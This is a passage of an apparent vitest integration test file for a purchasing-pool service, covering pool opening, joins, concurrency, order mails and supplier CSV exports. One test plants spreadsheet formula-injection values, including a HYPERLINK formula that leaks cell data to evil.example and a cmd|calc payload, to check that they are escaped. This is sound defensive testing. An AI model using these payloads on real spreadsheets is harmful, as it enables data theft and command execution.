import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join as joinPath } from 'node:path';
import { GetCommand, UpdateCommand } from '@aws-sdk/lib-dynamodb';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { updatePartner } from '#functions/networks/store';
import { handler as cancelPool } from '#functions/purchasing/cancel-pool.handler';
import { handler as changeQuantity } from '#functions/purchasing/change-quantity.handler';
import { handler as closeScheduled } from '#functions/purchasing/close-pool.handler';
import { handler as closeEarly } from '#functions/purchasing/close-pool-early.handler';
import { handler as getPool } from '#functions/purchasing/get-pool.handler';
import { handler as joinPool } from '#functions/purchasing/join-pool.handler';
import { handler as listPools } from '#functions/purchasing/list-pools.handler';
import { handler as openPool } from '#functions/purchasing/open-pool.handler';
import { handler as history } from '#functions/purchasing/purchase-history.handler';
import { poolKeys } from '#functions/purchasing/store';
import { handler as updateDeadline } from '#functions/purchasing/update-deadline.handler';
import { handler as withdraw } from '#functions/purchasing/withdraw.handler';
import { type LocalScheduler, startLocalScheduler } from '#infra/local/scheduler';
import { db, tableName } from '#shared/db/client';
import { usageMonth } from '#shared/metering/events';
import { usageKey } from '#shared/metering/store';
import { atExpression } from '#shared/scheduler/expression';
import { useScheduler } from '#shared/scheduler/index';
import { type Claims, call, claims } from '#test/support/api';
import { givenNetwork } from '#test/support/networks';
import { deliverQueuedMail, useFileOutbox } from '#test/support/outbox';

const outbox = useFileOutbox();
let scheduler: LocalScheduler;

beforeAll(async () => {
  scheduler = await startLocalScheduler({
    dataDir: mkdtempSync(joinPath(tmpdir(), 'verbund-sched-')),
    root: process.cwd(),
    retry: { attempts: 1, backoffMs: 0 },
  });
  useScheduler(scheduler);
});
afterAll(async () => {
  await scheduler.stop();
});

const inMinutes = (m: number) => new Date(Date.now() + m * 60_000).toISOString();

const poolBody = (over: Record<string, unknown> = {}) => ({
  supplier: { name: 'Holz Großhandel GmbH', email: 'orders@holz.example' },
  article: { name: 'OSB-Platte 18 mm', number: 'OSB-18', unit: 'Stk' },
  listPriceCents: 1500,
  tiers: [
    { minQuantity: 10, unitPriceCents: 1300 },
    { minQuantity: 50, unitPriceCents: 1140 },
    { minQuantity: 100, unitPriceCents: 1000 },
  ],
  deadline: inMinutes(60),
  shippingCents: 1000,
  ...over,
});

async function open(net: string, over: Record<string, unknown> = {}, as: Claims = claims.coordinator(net)) {
  const res = await call(openPool, { method: 'POST', path: '/pools', claims: as, body: poolBody(over) });
  expect(res.status, res.text).toBe(201);
  return res.body as { id: string; deadline: string; orderNumber: string };
}

const join = (net: string, poolId: string, partnerId: string, quantity: unknown) =>
  call(joinPool, {
    method: 'POST',
    path: `/pools/${poolId}/lines`,
    claims: claims.partner(net, partnerId),
    body: { quantity },
  });

const change = (net: string, poolId: string, partnerId: string, quantity: unknown, as?: Claims) =>
  call(changeQuantity, {
    method: 'PATCH',
    path: `/pools/${poolId}/lines/${partnerId}`,
    claims: as ?? claims.partner(net, partnerId),
    body: { quantity },
  });

const detail = (poolId: string, as: Claims) =>
  call(getPool, { method: 'GET', path: `/pools/${poolId}`, claims: as });

const close = (net: string, poolId: string, as: Claims = claims.coordinator(net)) =>
  call(closeEarly, { method: 'POST', path: `/pools/${poolId}/close`, claims: as });

/** The mails that reached `address`, once what is queued has been delivered. */
/** Mail to an address, without the "new pool" announcements (their own test below). */
const mailsTo = async (address: string) =>
  (await deliverQueuedMail().then(outbox.read)).filter(
    (m) => m.to.includes(address) && !m.subject.startsWith('Neuer Einkaufspool'),
  );

async function usage(net: string) {
  const out = await db.send(new GetCommand({ TableName: tableName, Key: usageKey(net, usageMonth()) }));
  return out.Item ?? {};
}

describe('POST /pools', () => {
  it('opens a pool with the list price as current price and schedules its close in the network timezone', async () => {
    // Prepare
    await givenNetwork('po1');
    // Act
    const res = await call(openPool, {
      method: 'POST',
      path: '/pools',
      claims: claims.coordinator('po1'),
      body: poolBody({ deadline: '2099-01-01T00:00:00+01:00' }),
    });
    // Assess: it fails as the deadline lies beyond a year; a deadline within a year is accepted
    expect(res.status).toBe(400);
    expect(res.body.errors).toEqual([
      { path: 'deadline', message: expect.stringContaining('within a year'), code: 'too_far_ahead' },
    ]);
    const deadline = inMinutes(90);
    const ok = await call(openPool, {
      method: 'POST',
      path: '/pools',
      claims: claims.coordinator('po1'),
      body: poolBody({ deadline }),
    });
    expect(ok.status).toBe(201);
    expect(ok.headers.location).toBe(`/pools/${ok.body.id}`);
    expect(ok.body).toMatchObject({
      status: 'open',
      timezone: 'Europe/Vienna',
      endAction: 'order_if_minimum_reached',
      shippingSplit: 'by_quantity',
      createdBy: { role: 'coordinator' },
      totals: {
        quantity: 0,
        participants: 0,
        unitPriceCents: 1500,
        currentTier: { tier: 0 },
        nextTier: { tier: 1, unitPriceCents: 1300, unitsToGo: 10 },
        unitsToNextTier: 10,
      },
    });
    const schedule = scheduler.list().find((s) => s.name === `pool-${ok.body.id}`);
    expect(schedule).toEqual({
      name: `pool-${ok.body.id}`,
      expression: atExpression(ok.body.deadline, 'Europe/Vienna'),
      timezone: 'Europe/Vienna',
      target: 'close-pool',
      payload: { networkId: 'po1', poolId: ok.body.id },
    });
  });

  it('lets a partner open a pool for some partners only; the others do not see it', async () => {
    await givenNetwork('po2', ['po2-p1', 'po2-p2', 'po2-p3']);
    const pool = await open(
      'po2',
      { eligiblePartnerIds: ['po2-p1', 'po2-p2'] },
      claims.partner('po2', 'po2-p1'),
    );
    expect((await detail(pool.id, claims.partner('po2', 'po2-p2'))).status).toBe(200);
    expect((await detail(pool.id, claims.partner('po2', 'po2-p3'))).status).toBe(404);
    expect((await join('po2', pool.id, 'po2-p3', 5)).status).toBe(404);
    const listed = await call(listPools, {
      method: 'GET',
      path: '/pools',
      claims: claims.partner('po2', 'po2-p3'),
    });
    expect(listed.body.items).toEqual([]);
  });

  it('names every bad field (zero, negative, fractional, tiers not decreasing, past deadline) and writes nothing', async () => {
    await givenNetwork('po3');
    const bad = await call(openPool, {
      method: 'POST',
      path: '/pools',
      claims: claims.coordinator('po3'),
      body: poolBody({
        listPriceCents: 0,
        packSize: 2.5,
        minimumQuantity: -4,
        tiers: [
          { minQuantity: 10, unitPriceCents: 1300 },
          { minQuantity: 50, unitPriceCents: 1400 },
        ],
        endAction: 'maybe',
        discount: 5,
      }),
    });
    expect(bad.status).toBe(400);
    expect(bad.headers['content-type']).toBe('application/problem+json');
    expect(bad.body.errors.map((e: { path: string }) => e.path).sort()).toEqual([
      'discount',
      'endAction',
      'listPriceCents',
      'minimumQuantity',
      'packSize',
    ]);
    const tiers = await call(openPool, {
      method: 'POST',
      path: '/pools',
      claims: claims.coordinator('po3'),
      body: poolBody({
        tiers: [
          { minQuantity: 10, unitPriceCents: 1300 },
          { minQuantity: 50, unitPriceCents: 1400 },
        ],
      }),
    });
    expect(tiers.status).toBe(400);
    expect(tiers.body.errors).toEqual([
      {
        path: 'tiers.1.unitPriceCents',
        message: expect.stringContaining('prices must strictly decrease'),
        code: 'not_descending',
      },
    ]);
    const past = await call(openPool, {
      method: 'POST',
      path: '/pools',
      claims: claims.coordinator('po3'),
      body: poolBody({ deadline: '2020-01-01T10:00:00Z', eligiblePartnerIds: ['po3-p1', 'nobody'] }),
    });
    expect(past.status).toBe(400);
    expect(past.body.errors.map((e: { path: string }) => e.path)).toEqual([
      'deadline',
      'eligiblePartnerIds.1',
    ]);
    // nothing written: no pool, no schedule
    const listed = await call(listPools, {
      method: 'GET',
      path: '/pools',
      claims: claims.coordinator('po3'),
    });
    expect(listed.body.items).toEqual([]);
    expect(scheduler.list().filter((s) => s.payload.networkId === 'po3')).toEqual([]);
  });
});

describe('joining, changing, withdrawing', () => {
  it('keeps totals, tier and each partner’s own line; partners do not see each other unless allowed', async () => {
    // Prepare
    await givenNetwork('jn1');
    const pool = await open('jn1');
    // Act
    const first = await join('jn1', pool.id, 'jn1-p1', 30);
    const second = await join('jn1', pool.id, 'jn1-p2', 25);
    // Assess
    expect(first.status).toBe(201);
    expect(second.body).toMatchObject({
      totals: {
        quantity: 55,
        participants: 2,
        unitPriceCents: 1140,
        currentTier: { tier: 2 },
        unitsToNextTier: 45,
      },
      myLine: { quantity: 25 },
    });
    const asP1 = await detail(pool.id, claims.partner('jn1', 'jn1-p1'));
    expect(asP1.body.myLine.quantity).toBe(30);
    expect(asP1.body.lines).toBeUndefined();
    expect(asP1.text).not.toContain('jn1-p2');
    const asCoordinator = await detail(pool.id, claims.coordinator('jn1'));
    expect(asCoordinator.body.lines).toEqual(
      expect.arrayContaining([
        { partnerId: 'jn1-p1', quantity: 30 },
        { partnerId: 'jn1-p2', quantity: 25 },
      ]),
    );
    const open2 = await open('jn1', { showParticipantQuantities: true });
    await join('jn1', open2.id, 'jn1-p1', 3);
    await join('jn1', open2.id, 'jn1-p2', 4);
    const shown = await detail(open2.id, claims.partner('jn1', 'jn1-p1'));
    expect(shown.body.lines).toHaveLength(2);
  });

  it('answers 400 naming quantity for zero, negative, fractional and text quantities; the total stays', async () => {
    await givenNetwork('jn2');
    const pool = await open('jn2');
    for (const quantity of [0, -3, 2.5, '5', null]) {
      const res = await join('jn2', pool.id, 'jn2-p1', quantity);
      expect(res.status).toBe(400);
      expect(res.body.errors.map((e: { path: string }) => e.path)).toEqual(['quantity']);
    }
    await join('jn2', pool.id, 'jn2-p1', 5);
    const res = await change('jn2', pool.id, 'jn2-p1', 0);
    expect(res.status).toBe(400);
    expect((await detail(pool.id, claims.coordinator('jn2'))).body.totals.quantity).toBe(5);
  });

  it('changes and withdraws move the total by exactly the difference', async () => {
    await givenNetwork('jn3');
    const pool = await open('jn3');
    await join('jn3', pool.id, 'jn3-p1', 30);
    await join('jn3', pool.id, 'jn3-p2', 25);
    const changed = await change('jn3', pool.id, 'jn3-p1', 12);
    expect(changed.status).toBe(200);
    expect(changed.body.totals).toMatchObject({ quantity: 37, currentTier: { tier: 1 } });
    const gone = await call(withdraw, {
      method: 'DELETE',
      path: `/pools/${pool.id}/lines/jn3-p2`,
      claims: claims.partner('jn3', 'jn3-p2'),
    });
    expect(gone.status).toBe(200);
    expect(gone.body.totals).toMatchObject({ quantity: 12, participants: 1 });
    expect(gone.body.myLine).toBeNull();
    const again = await call(withdraw, {
      method: 'DELETE',
      path: `/pools/${pool.id}/lines/jn3-p2`,
      claims: claims.partner('jn3', 'jn3-p2'),
    });
    expect(again.status).toBe(404);
  });

  it('refuses a second join (409), another partner’s line (404) and coordinators joining (403)', async () => {
    await givenNetwork('jn4');
    const pool = await open('jn4');
    await join('jn4', pool.id, 'jn4-p1', 10);
    const twice = await join('jn4', pool.id, 'jn4-p1', 10);
    expect(twice.status).toBe(409);
    const foreign = await change('jn4', pool.id, 'jn4-p1', 99, claims.partner('jn4', 'jn4-p2'));
    expect(foreign.status).toBe(404);
    const foreignWithdraw = await call(withdraw, {
      method: 'DELETE',
      path: `/pools/${pool.id}/lines/jn4-p1`,
      claims: claims.partner('jn4', 'jn4-p2'),
    });
    expect(foreignWithdraw.status).toBe(404);
    const coordinator = await call(joinPool, {
      method: 'POST',
      path: `/pools/${pool.id}/lines`,
      claims: claims.coordinator('jn4'),
      body: { quantity: 1 },
    });
    expect(coordinator.status).toBe(403);
    expect((await detail(pool.id, claims.coordinator('jn4'))).body.lines).toEqual([
      { partnerId: 'jn4-p1', quantity: 10 },
    ]);
  });

  it('refuses a deactivated partner (403) in the same transaction, leaving the total alone', async () => {
    await givenNetwork('jn6');
    const pool = await open('jn6');
    await updatePartner('jn6', 'jn6-p2', { active: false });
    const res = await join('jn6', pool.id, 'jn6-p2', 10);
    expect(res.status).toBe(403);
    expect((await detail(pool.id, claims.coordinator('jn6'))).body.totals).toMatchObject({
      quantity: 0,
      participants: 0,
    });
  });

  it('answers 409 to joins once the deadline passed, even before the schedule closed the pool', async () => {
    await givenNetwork('jn5');
    const pool = await open('jn5');
    await db.send(
      new UpdateCommand({
        TableName: tableName,
        Key: poolKeys.pool('jn5', pool.id),
        UpdateExpression: 'SET deadline = :past',
        ExpressionAttributeValues: { ':past': '2020-01-01T00:00:00.000Z' },
      }),
    );
    const res = await join('jn5', pool.id, 'jn5-p1', 10);
    expect(res.status).toBe(409);
    expect(res.body.detail).toContain('deadline');
  });

  it('mails every participant once when a join pushes the pool over a tier boundary', async () => {
    // Prepare
    await givenNetwork('tn1', ['tn1-p1', 'tn1-p2', 'tn1-p3', 'tn1-p4']);
    const pool = await open('tn1');
    await join('tn1', pool.id, 'tn1-p1', 8);
    expect(await mailsTo('tn1-p1@firm.example')).toEqual([]);
    // Act: three partners cross tier 1 (10 units) at the same time
    await Promise.all(['tn1-p2', 'tn1-p3', 'tn1-p4'].map((p) => join('tn1', pool.id, p, 5)));
    // Assess: tier 1 mailed once to each participant who was in when the tier was claimed
    const p1 = await mailsTo('tn1-p1@firm.example');
    expect(p1).toHaveLength(1);
    expect(p1[0]!.subject).toMatch(
      /Staffel 1 erreicht: 13,00 € pro Einheit; noch \d+ Einheiten bis Staffel 2 \(11,40 €\)/,
    );
    expect(p1[0]!.from).toBe('tn1-slug@inbound.verbund.test');
    expect(p1[0]!.fromName).toBe('Netzwerk tn1');
    // Act: a change pushes it over tier 2 (50)
    await change('tn1', pool.id, 'tn1-p1', 40);
    const all = (await deliverQueuedMail().then(outbox.read)).filter(
      (m) => m.from === 'tn1-slug@inbound.verbund.test',
    );
    const tier2 = all.filter((m) =>
      m.subject.includes('Staffel 2 erreicht: 11,40 € pro Einheit; noch 45 Einheiten bis Staffel 3'),
    );
    expect(tier2.map((m) => m.to[0]).sort()).toEqual([
      'tn1-p1@firm.example',
      'tn1-p2@firm.example',
      'tn1-p3@firm.example',
      'tn1-p4@firm.example',
    ]);
    expect(all.filter((m) => m.subject.includes('tier 1 reached')).length).toBeLessThanOrEqual(4);
  });
});

describe('concurrency', () => {
  it('50 concurrent joins from different partners give a total equal to the sum of the accepted quantities', async () => {
    // Prepare
    const partners = Array.from({ length: 50 }, (_, i) => `cc1-p${i + 1}`);
    await givenNetwork('cc1', partners);
    const pool = await open('cc1', { tiers: [{ minQuantity: 100_000, unitPriceCents: 1000 }] });
    // Act
    const results = await Promise.all(partners.map((p, i) => join('cc1', pool.id, p, i + 1)));
    // Assess
    const accepted = results.flatMap((r, i) => (r.status === 201 ? [i + 1] : []));
    expect(results.every((r) => r.status === 201 || r.status === 429)).toBe(true);
    expect(accepted.length).toBeGreaterThan(40);
    const view = await detail(pool.id, claims.coordinator('cc1'));
    expect(view.body.totals.quantity).toBe(accepted.reduce((a, b) => a + b, 0));
    expect(view.body.totals.participants).toBe(accepted.length);
    expect(view.body.lines.reduce((s: number, l: { quantity: number }) => s + l.quantity, 0)).toBe(
      view.body.totals.quantity,
    );
  });

  it('a quantity change racing the close either lands before it or gets 409', async () => {
    await givenNetwork('cc2');
    for (let round = 0; round < 6; round++) {
      const pool = await open('cc2', { endAction: 'order_always' });
      await join('cc2', pool.id, 'cc2-p1', 10);
      const [changed, closed] = await Promise.all([
        change('cc2', pool.id, 'cc2-p1', 20),
        close('cc2', pool.id),
      ]);
      expect(closed.status).toBe(200);
      expect([200, 409]).toContain(changed.status);
      const allocated = closed.body.allocation.lines[0];
      expect(allocated.requestedQuantity).toBe(changed.status === 200 ? 20 : 10);
      expect(closed.body.allocation.requestedQuantity).toBe(allocated.requestedQuantity);
    }
  });

  it('closes once and mails once for a double click plus a repeated schedule delivery', async () => {
    await givenNetwork('cc3');
    const pool = await open('cc3', { endAction: 'order_always' });
    await join('cc3', pool.id, 'cc3-p1', 60);
    await join('cc3', pool.id, 'cc3-p2', 40);
    await db.send(
      new UpdateCommand({
        TableName: tableName,
        Key: poolKeys.pool('cc3', pool.id),
        UpdateExpression: 'SET deadline = :now',
        ExpressionAttributeValues: { ':now': new Date().toISOString() },
      }),
    );
    const event = { networkId: 'cc3', poolId: pool.id };
    const [a, b, s1, s2] = await Promise.all([
      close('cc3', pool.id),
      close('cc3', pool.id),
      closeScheduled(event, {} as never),
      closeScheduled(event, {} as never),
    ]);
    expect([a.status, b.status]).toEqual([200, 200]);
    expect(a.body.allocation).toEqual(b.body.allocation);
    expect([s1.status, s2.status]).toEqual(['closed', 'closed']);
    expect([a, b].filter((r) => r.body.status === 'closed')).toHaveLength(2);
    expect(
      await mailsTo('orders@holz.example').then((m) =>
        m.filter((x) => x.subject.includes(pool.orderNumber) && x.from === 'cc3-slug@inbound.verbund.test'),
      ),
    ).toHaveLength(1);
    expect(
      await mailsTo('cc3-p1@firm.example').then((m) =>
        m.filter((x) => x.subject.startsWith('Bestellung bestätigt')),
      ),
    ).toHaveLength(1);
    expect((await usage('cc3')).poolsClosed).toBe(1);
  });
});

describe('announcing a pool', () => {
  it('mails the partners who may join, in their language, but not those who turned pool mails off', async () => {
    // Prepare: p2 reads English, p3 turned pool mails off, p4 may not join
    await givenNetwork('an1', ['an1-p1', 'an1-p2', 'an1-p3', 'an1-p4']);
    await updatePartner('an1', 'an1-p2', { language: 'en-GB' });
    await updatePartner('an1', 'an1-p3', { poolMails: false });
    // Act
    const pool = await open('an1', { eligiblePartnerIds: ['an1-p1', 'an1-p2', 'an1-p3'] });
    // Assess
    const opened = (await deliverQueuedMail().then(outbox.read)).filter(
      (m) => m.from === 'an1-slug@inbound.verbund.test' && /Einkaufspool|purchase pool/.test(m.subject),
    );
    expect(opened.map((m) => [m.to[0], m.subject]).sort()).toEqual([
      ['an1-p1@firm.example', 'Neuer Einkaufspool: OSB-Platte 18 mm'],
      ['an1-p2@firm.example', 'New purchase pool: OSB-Platte 18 mm'],
    ]);
    expect(opened.find((m) => m.to[0] === 'an1-p1@firm.example')!.text).toContain(
      'Listenpreis: 15,00 € / Stk',
    );
    expect(pool.orderNumber).toMatch(/-B-\d{4}-0001$/);
  });
});

describe('closing', () => {
  it('mails the supplier a CSV in which no article or partner name runs as a formula', async () => {
    // Prepare: names a partner or coordinator could type, each a live formula in a spreadsheet
    await givenNetwork('csv1');
    await updatePartner('csv1', 'csv1-p1', { name: '@SUM(1+1)*cmd|calc' });
    await updatePartner('csv1', 'csv1-p2', { name: 'Tischlerei; Holz & Co' });
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Rabatt")';
    const pool = await open('csv1', {
      endAction: 'order_always',
      article: { name: hyperlink, number: '+43-OSB', unit: '-Stk' },
    });
    await join('csv1', pool.id, 'csv1-p1', 30);
    await join('csv1', pool.id, 'csv1-p2', 25);
    // Act
    const res = await close('csv1', pool.id);
    // Assess
    expect(res.status).toBe(200);
    const [order] = (await mailsTo('orders@holz.example')).filter(
      (x) => x.subject.includes(pool.orderNumber) && x.from === 'csv1-slug@inbound.verbund.test',
    );
    const csv = order!.attachments.find((a) => a.filename.endsWith('.csv'))!.content;
    const ref = pool.orderNumber;
    const rows = csv.trim().split('\r\n');
    expect(rows).toContain(
      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,'@SUM(1+1)*cmd|calc,,,30,11.40,342.00`,
    );
    expect(rows).toContain(
      `${ref},'+43-OSB,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Rabatt"")",'-Stk,"Tischlerei; Holz & Co",,,25,11.40,285.00`,
    );
    // no field of any row starts a formula
    const fields = rows
      .flatMap((r) => r.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/))
      .map((f) => f.replace(/^"/, ''));
    expect(fields.filter((f) => /^[=+\-@\t\r]/.test(f))).toEqual([]);
  });

  it('allocates, mails the supplier an order with CSV and each partner its confirmation, and drops the schedule', async () => {
    // Prepare
    await givenNetwork('cl1');
    const pool = await open('cl1', { packSize: 5, shippingSplit: 'equal', shippingCents: 1001 });
    await join('cl1', pool.id, 'cl1-p1', 32);
    await join('cl1', pool.id, 'cl1-p2', 21);
    // Act
    const res = await close('cl1', pool.id);
    // Assess: 53 requested → 55 ordered (packs of 5), tier 2 at 11.40
    expect(res.status).toBe(200);
    expect(res.body.status).toBe('closed');
    expect(res.body.allocation).toMatchObject({
      requestedQuantity: 53,
      orderQuantity: 55,
      tier: 2,
      unitPriceCents: 1140,
      goodsTotalCents: 62_700,
      shippingCents: 1001,
    });
    // p2 has the larger gap to a whole pack (4, p1's is 3), so it absorbs the 2 rounding units;
    // shipping 1001 split equally: 501 / 500
    expect(
      res.body.allocation.lines.map((l: { partnerId: string; quantity: number; shippingCents: number }) => [
        l.partnerId,
        l.quantity,
        l.shippingCents,
      ]),
    ).toEqual([
      ['cl1-p1', 32, 501],
      ['cl1-p2', 23, 500],
    ]);
    expect(scheduler.list().some((s) => s.name === `pool-${pool.id}`)).toBe(false);
    const [order] = await mailsTo('orders@holz.example').then((m) =>
      m.filter((x) => x.subject.includes(pool.orderNumber) && x.from === 'cl1-slug@inbound.verbund.test'),
    );
    expect(order!.fromName).toBe('Netzwerk cl1');
    expect(order!.replyTo).toEqual(['office@cl1.example']);
    expect(order!.subject).toBe(`Bestellung / Purchase order ${pool.orderNumber}: 55 Stk OSB-Platte 18 mm`);
    expect(pool.orderNumber).toMatch(/^[A-Z]{2,6}-B-\d{4}-\d{4}$/);
    expect(order!.html).toContain('55 Stk');
    expect(order!.attachments.find((a) => a.filename === `${pool.orderNumber}.pdf`)?.mimeType).toBe(
      'application/pdf',
    );
    const csv = order!.attachments.find((a) => a.filename.endsWith('.csv'));
    expect(csv?.mimeType).toBe('text/csv');
    const rows = csv!.content.trim().split('\r\n');
    expect(rows[0]).toBe(
      'reference,article_number,article,unit,deliver_to,delivery_address,requested_delivery_date,quantity,unit_price_eur,line_total_eur',
    );
    expect(rows).toContain(`${pool.orderNumber},OSB-18,OSB-Platte 18 mm,Stk,Firma cl1-p1,,,32,11.40,364.80`);
    expect(rows.at(-3)).toBe(`${pool.orderNumber},OSB-18,TOTAL,Stk,,,,55,11.40,637.01`);
    expect(rows.at(-1)).toBe(`${pool.orderNumber},,TOTAL incl. VAT,,,,,,,764.41`);
    const [confirmation] = (await mailsTo('cl1-p2@firm.example')).filter((m) =>
      m.subject.startsWith('Bestellung bestätigt'),
    );
    expect(confirmation!.text).toContain('23 Stk × 11,40 € = 262,20 €');
    expect(confirmation!.text).toContain(
      'Sie hatten 21 angefragt; 2 kamen dazu, um ganze Packungen zu 5 zu bestellen.',
    );
    expect(confirmation!.text).toContain('Versandanteil: 5,00 €');
    // the partner sees its own allocation only
    const asP2 = await detail(pool.id, claims.partner('cl1', 'cl1-p2'));
    expect(asP2.body.allocation.lines.map((l: { partnerId: string }) => l.partnerId)).toEqual(['cl1-p2']);
    expect(asP2.body.allocation.orderQuantity).toBe(55);
    const late = await join('cl1', pool.id, 'cl1-p2', 1);
    expect(late.status).toBe(409);
    const usageNow = await usage('cl1');
    expect(usageNow.poolsClosed).toBe(1);
    // order + 2 confirmations, plus tier notices: tier 1 to p1, tier 2 to p1 and p2, and the
    // announcement of the new pool to both
    expect(usageNow.emailsSent).toBe(3 + 3 + 2);
  });

  it('mails the order and every confirmation of a pool with more participants than one transaction holds', async () => {
    // Prepare: 120 participants (the close transaction takes the pool and 99 mails)
    const partners = Array.from({ length: 120 }, (_, i) => `big-p${i + 1}`);
    await givenNetwork('big', partners);
    const pool = await open('big', { tiers: [{ minQuantity: 100_000, unitPriceCents: 1000 }] });
    for (const p of partners) expect((await join('big', pool.id, p, 2)).status).toBe(201);
    // Act
    const res = await close('big', pool.id);
    // Assess
    expect(res.body.status).toBe('closed');
    const confirmations = await deliverQueuedMail()
      .then(outbox.read)
      .then((all) =>
        all.filter(
          (m) => m.from === 'big-slug@inbound.verbund.test' && m.subject.startsWith('Bestellung bestätigt'),
        ),
      );
    expect(new Set(confirmations.map((m) => m.to[0])).size).toBe(120);
    expect(confirmations).toHaveLength(120);
    const orders = (await mailsTo('orders@holz.example')).filter((m) => m.text.includes('Netzwerk big'));
    expect(orders).toHaveLength(1);
  });

  it('cancels at the deadline when the minimum is not reached and mails the reason', async () => {
    await givenNetwork('cl2');
    const pool = await open('cl2', { minimumQuantity: 100 });
    await join('cl2', pool.id, 'cl2-p1', 3);
    await db.send(
      new UpdateCommand({
        TableName: tableName,
        Key: poolKeys.pool('cl2', pool.id),
        UpdateExpression: 'SET deadline = :now',
        ExpressionAttributeValues: { ':now': new Date().toISOString() },
      }),
    );
    const out = await closeScheduled({ networkId: 'cl2', poolId: pool.id }, {} as never);
    expect(out).toMatchObject({ status: 'cancelled', closedNow: true });
    const [notice] = await mailsTo('cl2-p1@firm.example');
    expect(notice!.subject).toBe('Pool abgesagt: OSB-Platte 18 mm');
    expect(notice!.text).toContain('die Mindestmenge von 100 wurde nicht erreicht (3 angefragt)');
    // the contact person learns that the pool failed its minimum
    const [failed] = await mailsTo('office@cl2.example');
    expect(failed!.subject).toBe('Pool nicht zustande gekommen: OSB-Platte 18 mm');
    expect(failed!.text).toContain('> die Mindestmenge von 100 wurde nicht erreicht (3 angefragt)');
    expect(
      await mailsTo('orders@holz.example').then((m) => m.filter((x) => x.text.includes('Netzwerk cl2'))),
    ).toEqual([]);
  });

  it('ignores a stale schedule delivery when the deadline was moved later', async () => {
    await givenNetwork('cl3');
    const pool = await open('cl3');
    const out = await closeScheduled({ networkId: 'cl3', poolId: pool.id }, {} as never);
    expect(out).toMatchObject({ status: 'open', closedNow: false });
  });

  it('is closed by the local scheduler at the deadline', async () => {
    await givenNetwork('cl4');
    const pool = await open('cl4', {
      deadline: new Date(Date.now() + 1500).toISOString(),
      endAction: 'order_always',
    });
    await join('cl4', pool.id, 'cl4-p1', 12);
    // the scheduler fires at the deadline: wait on the pool's status, not on a fixed time
    const after = await vi.waitFor(
      async () => {
        await scheduler.idle();
        const res = await detail(pool.id, claims.coordinator('cl4'));
        expect(res.body.status).toBe('closed');
        return res;
      },
      { timeout: 30_000, interval: 100 },
    );
    expect(after.body.closeTrigger).toBe('deadline');
    expect(scheduler.list().some((s) => s.name === `pool-${pool.id}`)).toBe(false);
  });

  it('lets only the coordinator close early', async () => {
    await givenNetwork('cl5');
    const pool = await open('cl5', {}, claims.partner('cl5', 'cl5-p1'));
    expect((await close('cl5', pool.id, claims.partner('cl5', 'cl5-p1'))).status).toBe(403);
    expect((await detail(pool.id, claims.coordinator('cl5'))).body.status).toBe('open');
  });
});

describe('deadline and cancel', () => {
  it('moves the deadline and its schedule; refuses past deadlines, other partners and closed pools', async () => {
    await givenNetwork('dl1');
    const pool = await open('dl1', {}, claims.partner('dl1', 'dl1-p1'));
    const later = inMinutes(240);
    const moved = await call(updateDeadline, {
      method: 'PUT',
      path: `/pools/${pool.id}/deadline`,
      claims: claims.partner('dl1', 'dl1-p1'),
      body: { deadline: later },
    });
    expect(moved.status).toBe(200);
    expect(moved.body.deadline).toBe(new Date(Math.ceil(Date.parse(later) / 1000) * 1000).toISOString());
    expect(scheduler.list().find((s) => s.name === `pool-${pool.id}`)?.expression).toBe(
      atExpression(moved.body.deadline, 'Europe/Vienna'),
    );
    const past = await call(updateDeadline, {
      method: 'PUT',
      path: `/pools/${pool.id}/deadline`,
      claims: claims.coordinator('dl1'),
      body: { deadline: '2021-05-01T10:00:00+02:00' },
    });
    expect(past.status).toBe(400);
    expect(past.body.errors[0].path).toBe('deadline');
    const other = await call(updateDeadline, {
      method: 'PUT',
      path: `/pools/${pool.id}/deadline`,
      claims: claims.partner('dl1', 'dl1-p2'),
      body: { deadline: inMinutes(30) },
    });
    expect(other.status).toBe(403);
    await join('dl1', pool.id, 'dl1-p2', 20);
    await close('dl1', pool.id);
    const closed = await call(updateDeadline, {
      method: 'PUT',
      path: `/pools/${pool.id}/deadline`,
      claims: claims.coordinator('dl1'),
      body: { deadline: inMinutes(30) },
    });
    expect(closed.status).toBe(409);
  });

  it('cancels: participants learn the reason, the schedule goes, later joins get 409', async () => {
    await givenNetwork('dl2');
    const pool = await open('dl2', {}, claims.partner('dl2', 'dl2-p1'));
    await join('dl2', pool.id, 'dl2-p2', 7);
    const notCreator = await call(cancelPool, {
      method: 'POST',
      path: `/pools/${pool.id}/cancel`,
      claims: claims.partner('dl2', 'dl2-p2'),
      body: { reason: 'mine' },
    });
    expect(notCreator.status).toBe(403);
    const res = await call(cancelPool, {
      method: 'POST',
      path: `/pools/${pool.id}/cancel`,
      claims: claims.partner('dl2', 'dl2-p1'),
      body: { reason: 'the supplier withdrew the offer' },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ status: 'cancelled', cancelReason: 'the supplier withdrew the offer' });
    expect(scheduler.list().some((s) => s.name === `pool-${pool.id}`)).toBe(false);
    const [notice] = await mailsTo('dl2-p2@firm.example');
    expect(notice!.text).toContain('wurde abgesagt');
    expect(notice!.text).toContain('> the supplier withdrew the offer');
    expect((await join('dl2', pool.id, 'dl2-p1', 1)).status).toBe(409);
    const twice = await call(cancelPool, {
      method: 'POST',
      path: `/pools/${pool.id}/cancel`,
      claims: claims.coordinator('dl2'),
      body: { reason: 'again' },
    });
    expect(twice.status).toBe(409);
  });
});

describe('lists and purchase history', () => {
  it('lists pools by state and shows a partner its history with total savings', async () => {
    // Prepare: one closed, one cancelled, one open pool
    await givenNetwork('hs1');
    const closedPool = await open('hs1');
    await join('hs1', closedPool.id, 'hs1-p1', 30);
    await join('hs1', closedPool.id, 'hs1-p2', 25);
    await close('hs1', closedPool.id);
    const cancelled = await open('hs1');
    await join('hs1', cancelled.id, 'hs1-p1', 5);
    await call(cancelPool, {
      method: 'POST',
      path: `/pools/${cancelled.id}/cancel`,
      claims: claims.coordinator('hs1'),
      body: { reason: 'too few' },
    });
    const openPool2 = await open('hs1');
    await join('hs1', openPool2.id, 'hs1-p1', 2);
    // Act + Assess: lists
    const list = async (state: string) =>
      (
        await call(listPools, {
          method: 'GET',
          path: `/pools?state=${state}`,
